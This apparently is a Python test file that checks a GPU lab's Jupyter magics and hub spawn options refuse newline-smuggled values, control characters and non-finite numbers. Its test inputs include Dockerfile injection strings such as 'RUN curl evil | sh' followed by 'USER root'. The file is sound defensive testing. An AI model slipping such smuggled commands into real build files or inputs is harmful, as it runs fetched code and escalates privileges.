"""Untrusted input is checked as a whole value, and bad input gives one clear line.

Attacks: an option value ending in a newline (``re.match(r"...$")`` accepts it) that
writes a second instruction into the Dockerfile; huge or non-finite numbers given
to the magics; a display name with a newline or control characters that breaks
out of the Dockerfile comment it is rendered into.
"""

from __future__ import annotations

import string
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from IPython.core.error import UsageError
from magics_kit import new_dockerfile

from gpulab_hub import images
from gpulab_hub.projects import options
from gpulab_jupyter import magics
from gpulab_jupyter.magics import spec
from gpulab_jupyter.magics.spec import SpecError

REPO = Path(__file__).resolve().parents[2]
CONTROL = "".join(map(chr, range(32))) + "\x7f"
HUGE = "1" + "0" * 100


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.setenv("GPULAB_PROJECT_DIR", str(tmp_path))
    new_dockerfile(tmp_path)
    return tmp_path


@pytest.mark.parametrize(
    "line",
    [
        "--apt 'curl\n'",
        "--apt 'curl\nRUN curl evil'",
        "--apt curl --apt 'vim\n'",
        "--import 'os\n' six",
        "--check 'import x\nRUN curl evil' six",
        "--check 'import x\r\nRUN curl evil' six",
        "--jobs inf six",
        "--jobs nan six",
        "--jobs 1e400 six",
        f"--jobs {HUGE} six",
        "--jobs 0 six",
        "--timeout inf six",
        "--timeout nan six",
        "--timeout -inf six",
        "--timeout 1e400 six",
        f"--timeout {HUGE} six",
        "--timeout 0 six",
    ],
)
def test_bad_arguments_change_nothing_and_say_so_in_one_line(project, line):
    before = (project / "Dockerfile").read_bytes()
    with pytest.raises(UsageError) as refused:
        magics.gpu_install(line)
    message = str(refused.value)
    assert message and "\n" not in message, message
    assert "Traceback" not in message
    assert (project / "Dockerfile").read_bytes() == before


def test_a_valid_apt_package_is_recorded(project):
    """The control for the test above: the same path does write a good value."""
    before = (project / "Dockerfile").read_bytes()
    magics.gpu_install("--apt curl")
    after = (project / "Dockerfile").read_text()
    assert after.encode() != before
    assert "apt-get install -y --no-install-recommends curl && rm" in after


@pytest.mark.parametrize("name, arg", [("gpu_info", "1e400"), ("gpu_diff", "nan")])
def test_magics_without_arguments_refuse_them_in_one_line(project, name, arg):
    with pytest.raises(UsageError, match="takes no arguments") as refused:
        getattr(magics, name)(arg)
    assert "\n" not in str(refused.value)


def test_gpu_diff_ignores_a_non_number_since(monkeypatch):
    from gpulab_jupyter.magics import diff

    for bad in ("nan", "inf", "1e400", "not-a-number", "-5"):
        monkeypatch.setenv("GPULAB_ENV_SINCE", bad)
        assert diff.since() == diff.container_start()
    monkeypatch.setenv("GPULAB_ENV_SINCE", "1700000000")
    assert diff.since() == 1700000000.0


# --- validators: any value with a control character is refused (hypothesis) ---------
good_apt = st.from_regex(r"[a-z0-9][a-z0-9+.\-]{0,20}", fullmatch=True)
good_module = st.from_regex(
    r"[A-Za-z_][A-Za-z0-9_]{0,10}(\.[A-Za-z_][A-Za-z0-9_]{0,10}){0,2}", fullmatch=True
)
control = st.sampled_from(CONTROL)


@given(good_apt, control, st.text(alphabet=string.printable, max_size=20))
def test_apt_names_with_a_control_character_are_refused(name, c, tail):
    spec.check_apt(name)
    with pytest.raises(SpecError):
        spec.check_apt(name + c + tail)


@given(good_module, control, st.text(alphabet=string.printable, max_size=20))
def test_module_names_with_a_control_character_are_refused(name, c, tail):
    spec.check_module(name)
    with pytest.raises(SpecError):
        spec.check_module(name + c + tail)


@given(st.text(max_size=40), st.sampled_from(CONTROL.replace("\t", "")), st.text(max_size=40))
def test_check_code_is_one_line(head, c, tail):
    with pytest.raises(SpecError):
        spec.check_code(head + c + tail)


@given(st.text(min_size=1, max_size=300))
def test_display_names_that_pass_are_one_printable_line(name):
    try:
        clean = options.check_display_name(name)
    except options.OptionsError as e:
        assert "\n" not in str(e)
        return
    assert len(clean) <= options.MAX_DISPLAY_NAME
    assert not any(c in clean for c in CONTROL + "\u2028\u2029\u0085")
    assert options.one_line(clean) == clean


@given(st.text(max_size=300))
def test_one_line_never_breaks_a_line(text):
    line = options.one_line(text)
    assert len(line) <= options.MAX_DISPLAY_NAME
    assert not any(c in line for c in CONTROL + "\u2028\u2029\u0085\u000b\u000c")


@pytest.mark.parametrize(
    "name",
    ["x\nRUN curl evil", "x\rRUN curl evil", "x\u2028RUN", "\x1b[31mred", "x" * 101, " x", ""],
)
def test_bad_display_names_are_refused(name):
    with pytest.raises(options.OptionsError, match="display name"):
        options.check_display_name(name)


def test_a_display_name_cannot_leave_the_dockerfile_comment():
    text = images.render(
        str(REPO / "images"),
        "project.Dockerfile.j2",
        base_image="gpulab/base:latest",
        display_name=options.one_line('my "p"\nRUN curl evil | sh\r\nUSER root'),
    )
    assert "\nRUN curl evil" not in text and "\nUSER root" not in text
    first = text.splitlines()[0]
    assert first.startswith("#") and "RUN curl evil" in first


# --- hub spawn options: full-string matches -----------------------------------------
@pytest.mark.parametrize(
    "opts",
    [
        {"mig_profile": "1g.10gb\n"},
        {"mig_profile": "1g.10gb\nx"},
        {"gpu_type": "H100\n"},
        {"gpu_type": "H100\nRUN"},
    ],
)
def test_spawn_options_with_a_trailing_newline_are_refused(opts):
    with pytest.raises(options.OptionsError):
        options.validate(opts)


@pytest.mark.parametrize("gpus", ["1\n", "²", "٣", HUGE, "1e400", "inf", "-1", " 1"])
def test_gpu_count_from_the_form_is_a_small_whole_number(gpus):
    with pytest.raises(options.OptionsError):
        options.from_form({"gpus": [gpus]})
